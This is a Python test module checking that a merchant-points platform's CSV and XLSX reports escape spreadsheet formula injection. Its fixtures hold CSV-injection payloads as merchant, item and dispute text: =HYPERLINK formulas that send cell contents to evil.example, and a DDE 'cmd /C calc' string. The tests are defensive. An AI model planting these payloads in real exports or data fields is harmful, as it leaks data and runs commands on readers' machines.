"""Exports carry no formulas (issue 13 §5, §6.3): a merchant, an item and a dispute reason
whose text begins with ``=``, ``+``, ``-`` or ``@`` are text in every report and bill.

The merchant ``=HYPERLINK(...)`` sells the item ``=HYPERLINK(...)``; Alice buys one, the shop
verifies it, the month is settled and the owner disputes the statement in the console with
the reason ``=HYPERLINK(...)``. Then every export is fetched the way its reader gets it: the
bill from the console (CSV and XLSX), the statement, points-cost and reconciliation reports
from the admin API, and the same three from the command line. In every CSV no cell begins with a
formula character (OWASP: the hostile text is there, behind a ``'``); in every XLSX no
worksheet holds a formula, and the hostile text is a string cell, verbatim.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import AsyncIterator
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from aiohttp.test_utils import TestClient, TestServer
from sqlalchemy import Connection

from core.catalogue.editing import ItemSpec, upsert_item
from core.merchants import merchants
from core.platform.cells import FORMULA_STARTS, cell_text
from core.platform.clock import epoch
from core.settlement import settlement
from core.vouchers import verification
from pointshall.app import build_app
from pointshall.bootstrap import Services
from tests.support.admin_helpers import make_staff
from tests.support.cli import pointshall
from tests.support.console_helpers import csrf_of, login
from tests.support.helpers import fund, redeem_paid, seed_catalog
from tests.support.merchant_helpers import ALICE

SHOP_ZH = '=HYPERLINK("https://evil.example/?"&A1,"对账")'
SHOP_EN = "+1+cmd|' /C calc'!A0"
ITEM_ZH = '=HYPERLINK("https://evil.example/i","咖啡")'
ITEM_EN = "-2+3"
REASON = '=HYPERLINK("https://evil.example/?"&A1,"见附件")'
OWNER = "+8613500135009"
VERIFIER = "+8613700137009"
PERIOD = "2026-11"
FORMULA = re.compile(rb"<f[ >]")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.fixture
async def statement_id(services: Services, tmp_path: Path) -> int:
    """The hostile shop's statement of November, disputed by its owner in the console."""
    await seed_catalog(services)
    await fund(services, tmp_path, {ALICE: 50_000})
    now = epoch(services.clock.now())

    def shop(conn: Connection) -> None:
        merchants.upsert(conn, "MX", SHOP_ZH, SHOP_EN, now)
        merchants.add_staff(conn, "MX", OWNER, "owner", "test", now)
        merchants.add_staff(conn, "MX", VERIFIER, "verifier", "test", now)
        settlement.set_rate(conn, "MX", 250, "test", now)
        spec = ItemSpec("7001", ITEM_ZH, ITEM_EN, "SJ", "voucher", 800, merchant="MX")
        upsert_item(conn, spec, now)

    await services.db.write(shop)

    def verified(conn: Connection) -> None:
        paid = redeem_paid(conn, services, ALICE, "7001")
        actor = merchants.staff_actor(conn, VERIFIER)
        outcome = verification.verify_by_password(
            conn,
            actor,
            paid.order.no,
            paid.voucher_password or "",
            now,
            keyring=services.keyring,
        )
        assert isinstance(outcome, verification.Verified), outcome

    await services.db.write(verified)
    made = await settlement.settle(
        services.db,
        period=None,
        now=now,
        tz=ZoneInfo(services.settings.timezone),
        by="test",
        early=True,
    )
    return next(s.id for s in made if s.merchant_code == "MX")


@pytest.fixture
async def client(services: Services, statement_id: int) -> AsyncIterator[TestClient]:
    services.settings.public_url = None  # plain http in tests: the cookie is not Secure
    async with TestClient(TestServer(build_app(services, drain=False))) as c:
        await login(c, services, OWNER)
        page = f"/console/statements/{statement_id}"
        token = await csrf_of(c, page)
        resp = await c.post(f"{page}/dispute", data={"reason": REASON, "csrf": token})
        assert resp.status == 200, await resp.text()
        yield c


def csv_cells(data: bytes) -> list[list[str]]:
    """The rows of a CSV export; no text cell may begin with a formula character (a number
    such as ``-800`` is a number)."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    starting = [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert not starting, starting
    return rows


def xlsx_strings(data: bytes) -> set[str]:
    """Every string cell of an XLSX export; no worksheet of it may hold a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not FORMULA.search(book.read(name)), f"a formula in {name}"
    strings: set[str] = set()
    for sheet in openpyxl.load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    strings.add(cell.value)
    return strings


def assert_formula_free(kind: str, data: bytes) -> None:
    """A report with no merchant text in it (points cost, reconciliation): still no formula."""
    if kind == "csv":
        assert csv_cells(data)
    else:
        xlsx_strings(data)


def assert_bill(kind: str, data: bytes) -> None:
    """The bill names the item (as text) in both forms; the XLSX also the shop and reason."""
    if kind == "csv":
        rows = csv_cells(data)
        header, line = rows[0], rows[1]
        assert line[header.index("item_zh")] == cell_text(ITEM_ZH) == "'" + ITEM_ZH
        assert line[header.index("item_en")] == "'" + ITEM_EN
        return
    strings = xlsx_strings(data)
    assert {ITEM_ZH, ITEM_EN, REASON} <= strings
    assert f"MX {SHOP_ZH} / {SHOP_EN}" in strings


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_console_bill_has_no_formula(
    client: TestClient, statement_id: int, kind: str
) -> None:
    resp = await client.get(f"/console/statements/{statement_id}/bill.{kind}")
    assert resp.status == 200
    assert_bill(kind, await resp.read())


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
async def test_admin_reports_have_no_formula(
    client: TestClient, services: Services, statement_id: int, kind: str
) -> None:
    token = (await make_staff(services))["finance"]
    headers = {"Authorization": f"Bearer {token}"}
    resp = await client.get(
        f"/admin/v1/statements/{statement_id}/report", params={"format": kind}, headers=headers
    )
    assert resp.status == 200, await resp.text()
    assert_bill(kind, await resp.read())
    resp = await client.get(
        "/admin/v1/reports/points-cost",
        params={"period": PERIOD, "format": kind},
        headers=headers,
    )
    assert resp.status == 200, await resp.text()
    data = await resp.read()
    if kind == "csv":
        assert csv_cells(data)[0][0] == "category"
    else:
        assert "points cost" in openpyxl.load_workbook(io.BytesIO(data)).sheetnames
        xlsx_strings(data)
    resp = await client.get(
        "/admin/v1/reports/reconcile",
        params={"period": PERIOD, "format": kind, "lang": "en"},
        headers=headers,
    )
    assert resp.status == 200, await resp.text()
    assert_formula_free(kind, await resp.read())


async def test_command_line_reports_have_no_formula(
    client: TestClient, database_url: str, tmp_path: Path
) -> None:
    for kind in ("csv", "xlsx"):
        bill, cost = tmp_path / f"mx.{kind}", tmp_path / f"cost.{kind}"
        ran = pointshall(
            database_url,
            "report",
            "merchant",
            "--period",
            PERIOD,
            "--merchant",
            "MX",
            "--out",
            str(bill),
        )
        assert ran.returncode == 0, ran.stderr
        assert_bill(kind, bill.read_bytes())
        ran = pointshall(
            database_url, "report", "points-cost", "--period", PERIOD, "--out", str(cost)
        )
        assert ran.returncode == 0, ran.stderr
        assert_formula_free(kind, cost.read_bytes())
        rec = tmp_path / f"reconcile.{kind}"
        ran = pointshall(database_url, "report", "reconcile", "--month", PERIOD, "--out", str(rec))
        assert ran.returncode == 0, ran.stderr
        assert_formula_free(kind, rec.read_bytes())


def test_the_leading_quote_is_owasps() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert cell_text(f"{start}1+1") == f"'{start}1+1"
    for safe in ("", "咖啡券", "1+1", " =1", "'=1", "a=b", "voucher:2611200001"):
        assert cell_text(safe) == safe
